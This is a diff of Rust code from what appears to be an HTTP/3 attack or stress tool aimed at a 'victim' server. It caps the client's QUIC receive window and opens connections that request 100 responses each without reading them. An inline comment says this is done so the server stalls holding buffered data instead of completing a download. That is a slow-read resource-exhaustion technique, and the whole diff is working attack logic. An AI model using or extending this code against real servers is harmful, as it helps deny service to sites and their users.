@@ -10,11 +10,17 @@ use crate::wire::{Head, h2, h2_frame};
 
 /// Responses on each connection.
 const RESPONSES: u32 = 100;
+/// Bytes of all responses of an HTTP/3 connection that its client takes before it stalls.
+const WINDOW: u32 = 100_000;
 /// Time between looks for the end of a connection that is not read.
 const LOOK_EVERY: Duration = Duration::from_secs(5);
 
 pub(super) async fn http3(force: &Force, number: usize) -> io::Result<()> {
-    let connection = force.quic(number, |_| {}).await?;
+    // Without a window, the server would fill 1.25 MB for each response first: a download, and no stall.
+    let stalling = |transport: &mut quinn::TransportConfig| {
+        transport.receive_window(quinn::VarInt::from_u32(WINDOW));
+    };
+    let connection = force.quic(number, stalling).await?;
     let _open = force.tally.open();
     let head = Head::get(force.victim.title.as_str()).http3();
     let mut responses = Vec::new();
